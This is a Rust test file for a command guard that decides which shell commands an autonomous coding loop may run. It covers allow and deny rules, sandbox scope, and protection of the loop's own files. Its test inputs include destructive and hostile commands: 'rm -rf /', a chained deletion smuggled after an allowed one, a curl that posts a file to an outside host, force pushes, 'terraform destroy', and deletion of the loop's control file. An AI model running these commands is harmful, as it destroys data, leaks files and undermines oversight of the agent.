//! The user's own rules, the scope in a sandbox, and the order of reasons.

use std::collections::BTreeSet;
use std::path::Path;

use command_guard::{Category, CommandContext, judge_command, judge_write};
use project::{CommandRules, GuardScope};

use crate::{categories, context};

fn with(rules: CommandRules) -> CommandContext {
    CommandContext { rules, ..context() }
}

#[test]
fn a_rule_that_allows_opens_one_command_and_no_other() {
    let allow =
        |rule: &str| with(CommandRules { allow: vec![rule.into()], ..CommandRules::default() });
    let passes = |rule: &str, command: &str| categories(command, &allow(rule)).is_empty();
    assert!(passes("sudo apt-get install *", "sudo apt-get install jq"));
    assert!(!passes("sudo apt-get install *", "sudo rm x"));
    assert!(passes("rm -rf /opt/x*", "rm -rf /opt/x1"));
    assert!(!passes("rm -rf /opt/x*", "rm -rf /opt/x1 && rm -rf /"));
    assert!(!passes("rm -rf *", "rm -rf \"$X\""), "what is unknown is not opened");
    assert!(!passes("rm *", "sudo rm /x"), "nor what is run with more rights");
    assert!(!passes("echo *", "echo x > /etc/hosts"), "nor what is written elsewhere");
    assert!(!passes("rm *", "rm .ralph-active"), "nor the loop");
    assert!(passes("git-history", "git push --force"));
    assert!(!passes("loop-tampering", "rm .ralph-active"));
}

#[test]
fn a_rule_that_refuses_wins_also_inside() {
    let rules = CommandRules {
        deny: vec!["terraform *".into()],
        allow: vec!["terraform *".into()],
        ..CommandRules::default()
    };
    let context = with(rules);
    for command in [
        "terraform plan",
        "timeout 5 terraform plan",
        "sh -c 'terraform plan'",
        "/usr/bin/terraform plan",
        "terraform $X",
    ] {
        assert!(categories(command, &context).contains(&Category::OwnRule), "{command}");
    }
    assert_eq!(categories("echo terraform plan", &context), []);
}

#[test]
fn in_a_sandbox_only_effects_outside_it_are_refused() {
    let context = with(CommandRules { scope: GuardScope::Sandboxed, ..CommandRules::default() });
    for command in ["rm -rf ~", "sudo ls", "touch /etc/x", "crontab a", "eval \"$X\""] {
        assert_eq!(categories(command, &context), [], "{command}");
    }
    for command in [
        "git push -f",
        "curl -d @a x.example",
        "npm publish",
        "terraform destroy",
        "rm .ralph-active",
    ] {
        assert!(!categories(command, &context).is_empty(), "{command}");
    }
    assert_eq!(judge_write(Path::new("/etc/x"), &context), None);
    assert!(judge_write(Path::new(".ralph/x"), &context).is_some());
}

#[test]
fn writable_settings_apply_except_for_the_loops_own_files() {
    let rules = CommandRules {
        writable: vec!["/opt/cache".into()],
        own: vec!["/opt/cache/ralph".into()],
        ralph_dir: Some("plan".into()),
        ..CommandRules::default()
    };
    let context =
        CommandContext { plugin: vec!["/home/user/project/plugin".into()], ..with(rules) };
    for command in ["touch /opt/cache/a", "rm -rf /opt/cache/b", "touch ralph/prd.md"] {
        assert_eq!(categories(command, &context), [], "{command}");
    }
    for command in ["touch /opt/cache/ralph", "touch plan/prd.md", "rm -rf plugin/bin"] {
        assert!(categories(command, &context).contains(&Category::LoopTampering), "{command}");
    }
}

#[test]
fn reasons_come_once_and_the_most_serious_first() {
    let refusals =
        judge_command("touch /etc/a; rm -rf /; rm -rf /; git push -f", &context(), &|_| None);
    let found: Vec<Category> = refusals.iter().map(|refusal| refusal.category).collect();
    assert_eq!(found[0], Category::RecursiveDelete);
    assert_eq!(found.iter().filter(|category| **category == Category::RecursiveDelete).count(), 1);
    assert!(found.contains(&Category::GitHistory) && found.contains(&Category::WriteOutside));
}

#[test]
fn every_category_has_a_name_of_its_own() {
    let names: BTreeSet<&str> = Category::ALL.iter().map(|category| category.name()).collect();
    assert_eq!(names.len(), Category::ALL.len());
}
